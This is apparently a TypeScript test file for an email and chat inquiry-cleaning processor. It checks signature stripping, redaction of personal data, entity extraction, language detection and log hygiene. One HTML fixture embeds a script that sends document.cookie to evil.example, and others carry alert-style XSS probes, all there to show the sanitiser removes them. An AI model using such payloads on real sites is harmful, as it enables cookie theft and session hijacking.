import { pino } from "pino";
import { beforeAll, describe, expect, inject, it } from "vitest";
import { loadConfig } from "../../config/settings.js";
import { clean } from "../../processors/clean.js";
import type { InquiryCleaned, InquiryEnvelope, InquiryReceived } from "../../schemas/types.generated.js";
import { InvalidInputError } from "../../streams/errors.js";
import type { OutputRecord, ProcessorImplementation } from "../../streams/processor.js";
import { TRIAGE, findProcessor } from "../../streams/topology.js";
import { MAX_TEXT_CHARS } from "../../text/normalize.js";
import { createResources } from "../../streams/resources.js";

const ENVELOPE: InquiryEnvelope = {
  channel: "email",
  source_id: "<CAF=3xq@mail.example.com>",
  thread_id: "thread-1",
  customer: { id: "c-1001", email: "dana.smith@example.com", name: "Dana Smith", tier: "premium" },
  received_at: Date.parse("2025-03-04T09:00:00Z"),
  reply_to: "dana.smith@example.com",
  metadata: { mailbox: "support" },
};

function inquiry(body: string, overrides: Partial<InquiryReceived> = {}): InquiryReceived {
  return { inquiry_id: "inq-1", envelope: ENVELOPE, subject: null, body, content_type: "text", ...overrides };
}

/** Log lines the processor wrote, to check that no inquiry text reaches them. */
const logLines: string[] = [];
const log = pino({ level: "debug" }, { write: (line: string) => void logLines.push(line) });

describe("clean processor", () => {
  let processor: ProcessorImplementation<InquiryReceived>;
  const { processor: declaration } = findProcessor("clean");

  beforeAll(() => {
    processor = clean(declaration, { topology: TRIAGE, config: loadConfig(), endpoints: inject("endpoints"), log, resources: createResources(loadConfig(), inject("endpoints"), log, "test") });
  });

  async function run(input: InquiryReceived): Promise<InquiryCleaned> {
    const outputs: readonly OutputRecord[] = await processor.process(
      {
        topic: "inquiries.received",
        partition: 0,
        offset: "0",
        key: input.inquiry_id,
        value: input,
        headers: {},
        timestamp: Date.now(),
      },
      { log },
    );
    expect(outputs).toHaveLength(1);
    expect(outputs[0]!.topic).toBe("inquiries.cleaned");
    return outputs[0]!.value as InquiryCleaned;
  }

  it("cleans an Outlook reply: quoted history and signature gone, personal data redacted, entities found", async () => {
    const body = [
      "Hello,",
      "",
      "I still have not received order #48213. I paid $49.99 on March 3, 2025.",
      "You can reach me at +1 (415) 555-2671 or dana.smith@example.com.",
      "",
      "Best regards,",
      "Dana Smith",
      "ACME Corp",
      "",
      "________________________________",
      "From: Example Shop Support <support@shop.example>",
      "Sent: Monday, March 3, 2025 10:04 AM",
      "To: Dana Smith <dana.smith@example.com>",
      "Subject: RE: Order 48213",
      "",
      "Dear Dana, your order ships within 2 days.",
    ].join("\r\n");
    const cleaned = await run(inquiry(body, { subject: "RE: Order 48213 missing" }));
    expect(cleaned.subject).toBe("Order 48213 missing");
    expect(cleaned.text).toBe(
      "Hello,\n\nI still have not received order #48213. I paid $49.99 on March 3, 2025.\nYou can reach me at [PHONE] or [EMAIL].",
    );
    expect(cleaned.redaction_count).toBe(2);
    expect(cleaned.language).toBe("en");
    expect(cleaned.language_confidence).toBeGreaterThan(0.5);
    expect(cleaned.entities).toEqual([
      { type: "order_number", value: "48213" },
      { type: "amount", value: "49.99 USD" },
      { type: "date", value: "2025-03-03" },
    ]);
    expect(cleaned.envelope).toEqual(ENVELOPE);
    expect(cleaned.inquiry_id).toBe("inq-1");
    expect(cleaned.cleaned_at).toBeGreaterThan(ENVELOPE.received_at);
  });

  it("cleans an HTML newsletter-style email: scripts and styles removed, links reduced to their text", async () => {
    const body = `<html><head><style>body{font-family:Arial}</style><script>fetch("https://evil.example/?c="+document.cookie)</script></head>
      <body><p>Hi team,</p><p>The <a href="https://shop.example/account?token=abc123">account page</a> shows invoice INV-7781 twice:
      <b>EUR&nbsp;120</b> each.</p><p onclick="alert(1)">Please refund one.</p><img src="x" onerror="alert(2)">
      <div class="gmail_quote">On Mon, Mar 3, 2025 at 10:04 AM Support &lt;support@shop.example&gt; wrote:<blockquote>Your invoice is attached.</blockquote></div>
      </body></html>`;
    const cleaned = await run(inquiry(body, { content_type: "html" }));
    expect(cleaned.text).toBe(
      "Hi team,\n\nThe account page shows invoice INV-7781 twice: EUR 120 each.\n\nPlease refund one.",
    );
    expect(cleaned.text).not.toMatch(/script|alert|evil|cookie|token|https?:|invoice is attached/i);
    expect(cleaned.entities).toEqual([
      { type: "invoice_number", value: "INV-7781" },
      { type: "amount", value: "120 EUR" },
    ]);
  });

  it("treats script tags in a body sent as plain text as HTML, so they never reach the text", async () => {
    const cleaned = await run(inquiry('<script>alert("pwned")</script>My password reset email never arrives.'));
    expect(cleaned.text).toBe("My password reset email never arrives.");
  });

  it("cleans a German email with a signature and mobile footer", async () => {
    const body = [
      "Guten Tag,",
      "",
      "meine Bestellung 4711 vom 12.03.2025 ist beschädigt angekommen. Bitte erstatten Sie 49,99 € auf",
      "DE89 3704 0044 0532 0130 00.",
      "",
      "Mit freundlichen Grüßen",
      "Max Mustermann",
      "Tel. 030 1234567",
      "",
      "Von meinem iPhone gesendet",
    ].join("\n");
    const cleaned = await run(inquiry(body, { subject: "AW: Beschädigte Lieferung" }));
    expect(cleaned.text).toBe(
      "Guten Tag,\n\nmeine Bestellung 4711 vom 12.03.2025 ist beschädigt angekommen. Bitte erstatten Sie 49,99 € auf\n[IBAN].",
    );
    expect(cleaned.language).toBe("de");
    expect(cleaned.redaction_count).toBe(1);
    expect(cleaned.entities).toEqual([
      { type: "order_number", value: "4711" },
      { type: "date", value: "2025-03-12" },
      { type: "amount", value: "49.99 EUR" },
    ]);
  });

  it("cleans a tweet and a chat one-liner", async () => {
    const tweet = await run(
      inquiry(
        "@AcmeAir my flight AA1234 got cancelled AGAIN and nobody at the gate can help 😡 #fail http://t.co/xyz",
        { envelope: { ...ENVELOPE, channel: "api" } },
      ),
    );
    expect(tweet.text).toBe(
      "@AcmeAir my flight AA1234 got cancelled AGAIN and nobody at the gate can help 😡 #fail http://t.co/xyz",
    );
    expect(tweet.language).toBe("en");
    const chat = await run(inquiry("refund??", { envelope: { ...ENVELOPE, channel: "chat" } }));
    expect(chat.text).toBe("refund??");
    expect(chat.language).toBe("und");
    expect(chat.language_confidence).toBeLessThanOrEqual(0.3);
    expect(chat.subject).toBeNull();
  });

  it("redacts personal data in the subject too, and counts it", async () => {
    const cleaned = await run(inquiry("Please call me back.", { subject: "Callback to +44 20 7946 0958" }));
    expect(cleaned.subject).toBe("Callback to [PHONE]");
    expect(cleaned.text).toBe("Please call me back.");
    expect(cleaned.redaction_count).toBe(1);
  });

  it("redacts personal data in every format and keeps order numbers, amounts and dates", async () => {
    const body =
      "Card 4111-1111-1111-1111, Amex 3782 822463 10005, IBAN GB82 WEST 1234 5698 7654 32, mail dana[at]example[dot]com, " +
      "phone 0170 1234567. Order 5551234567, account no. 88123401, paid 1.234,50 EUR on 2025-03-01.";
    const cleaned = await run(inquiry(body));
    expect(cleaned.text).toBe(
      "Card [CARD], Amex [CARD], IBAN [IBAN], mail [EMAIL], phone [PHONE]. Order 5551234567, account no. 88123401, paid 1.234,50 EUR on 2025-03-01.",
    );
    expect(cleaned.redaction_count).toBe(5);
    expect(cleaned.entities).toEqual([
      { type: "order_number", value: "5551234567" },
      { type: "account_id", value: "88123401" },
      { type: "amount", value: "1234.50 EUR" },
      { type: "date", value: "2025-03-01" },
    ]);
  });

  it("keeps text with a few bytes of invalid UTF-8, dropping the replacement characters", async () => {
    const body = new TextDecoder().decode(
      Buffer.from("Ich möchte meine Bestellung stornieren, bitte bestätigen Sie die Stornierung.", "latin1"),
    );
    const cleaned = await run(inquiry(body));
    expect(cleaned.text).toBe("Ich mchte meine Bestellung stornieren, bitte besttigen Sie die Stornierung.");
    expect(cleaned.language).toBe("de");
  });

  it("cleans an unsupported language normally, with its code, for the language queue", async () => {
    const cleaned = await run(inquiry("Buongiorno, il mio ordine non è ancora arrivato. Potete aiutarmi per favore?"));
    expect(cleaned.language).toBe("it");
    expect(cleaned.text).toBe("Buongiorno, il mio ordine non è ancora arrivato. Potete aiutarmi per favore?");
  });

  it("caps a huge body and subject", async () => {
    const paragraph = "The export job fails with a timeout after processing about half of the records. ";
    const cleaned = await run(
      inquiry(paragraph.repeat(Math.ceil(900_000 / paragraph.length)), { subject: "Export fails ".repeat(1000) }),
    );
    expect(cleaned.text.length).toBeLessThanOrEqual(MAX_TEXT_CHARS);
    expect(cleaned.text.startsWith(paragraph.trim())).toBe(true);
    expect(cleaned.subject!.length).toBeLessThanOrEqual(500);
  });

  it("accepts an empty body when there is a subject, and takes language and entities from the subject", async () => {
    const cleaned = await run(inquiry("   ", { subject: "Please cancel my subscription for account ACC-5521" }));
    expect(cleaned.text).toBe("");
    expect(cleaned.subject).toBe("Please cancel my subscription for account ACC-5521");
    expect(cleaned.language).toBe("en");
    expect(cleaned.entities).toEqual([{ type: "account_id", value: "ACC-5521" }]);
  });

  it("refuses an empty or invisible body without a subject, with a reason for the DLQ", async () => {
    await expect(run(inquiry(""))).rejects.toThrow(new InvalidInputError("body is empty and there is no subject"));
    await expect(run(inquiry(" \n\t ", { subject: "  " }))).rejects.toThrow(/body is empty and there is no subject/);
    await expect(run(inquiry("<script>alert(1)</script><style>p{}</style>", { content_type: "html" }))).rejects.toThrow(
      /body has no readable text/,
    );
    await expect(run(inquiry("\u200B\u200B\uFEFF"))).rejects.toThrow(InvalidInputError);
  });

  it("refuses binary content as not text", async () => {
    const bytes = Buffer.alloc(2048);
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919 + 13) % 256;
    const garbage = new TextDecoder().decode(Buffer.concat([Buffer.from("%PDF-1.7\n"), bytes]));
    const refusal = run(inquiry(garbage, { subject: "Invoice" }));
    await expect(refusal).rejects.toBeInstanceOf(InvalidInputError);
    await expect(refusal).rejects.toThrow(/^body is not text/);
  });

  it("never writes the inquiry text or personal data to the logs", async () => {
    logLines.length = 0;
    await run(inquiry("Secret plan: call me at +1 415 555 2671 about order 48213.", { subject: "Private matter" }));
    await run(inquiry("")).catch(() => undefined);
    expect(logLines.length).toBeGreaterThan(0);
    // The envelope (time, pid) holds digits of its own; a timestamp containing 415 is no leak.
    const logged = logLines
      .map((line) => {
        const fields = JSON.parse(line) as Record<string, unknown>;
        delete fields.time;
        delete fields.pid;
        return JSON.stringify(fields);
      })
      .join("\n");
    for (const fragment of ["Secret plan", "415", "Private matter", "48213", "dana.smith"])
      expect(logged).not.toContain(fragment);
  });
});
